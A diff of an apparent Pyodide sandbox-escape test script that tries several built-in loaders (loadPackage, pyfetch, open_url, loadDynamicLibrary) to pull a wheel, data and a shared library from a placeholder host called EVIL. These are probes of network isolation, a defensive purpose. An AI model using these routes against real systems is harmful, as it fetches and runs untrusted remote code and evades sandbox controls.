@@ -1,11 +1,11 @@
-# Tries Pyodide's package loader, with a wheel's address and with one of a script.
-import pyodide_js
+# Tries Pyodide's own ways to load things: packages, requests, libraries.
+import pyodide.http, pyodide_js
 
 await attempt("wheel", lambda: pyodide_js.loadPackage(EVIL + "/stolen-1-py3-none-any.whl"))
-await attempt("pyodide.http", lambda: __import__("pyodide.http").http.pyfetch(EVIL + "/stolen"))
-await attempt("open_url", lambda: __import__("pyodide.http").http.open_url(EVIL + "/stolen"))
-await attempt("lazy file", lambda: pyodide_js.FS.createLazyFile("/", "lazy", EVIL + "/stolen", True, False) and open("/lazy").read())
-await attempt("preload", lambda: pyodide_js.FS.createPreloadedFile("/", "pre", EVIL + "/stolen", True, False))
-await attempt("library", lambda: pyodide_js._module.loadDynamicLibrary(EVIL + "/stolen.so", options(loadAsync=True)))
+await attempt("pyfetch", lambda: pyodide.http.pyfetch(EVIL + "/stolen"))
+await attempt("open_url", lambda: pyodide.http.open_url(EVIL + "/stolen"))
 await asyncio.sleep(0.3)
 print("tried")
+library = options(loadAsync=True)
+await attempt("library", lambda: pyodide_js._module.loadDynamicLibrary(EVIL + "/stolen.so", library))
+await asyncio.sleep(0.3)
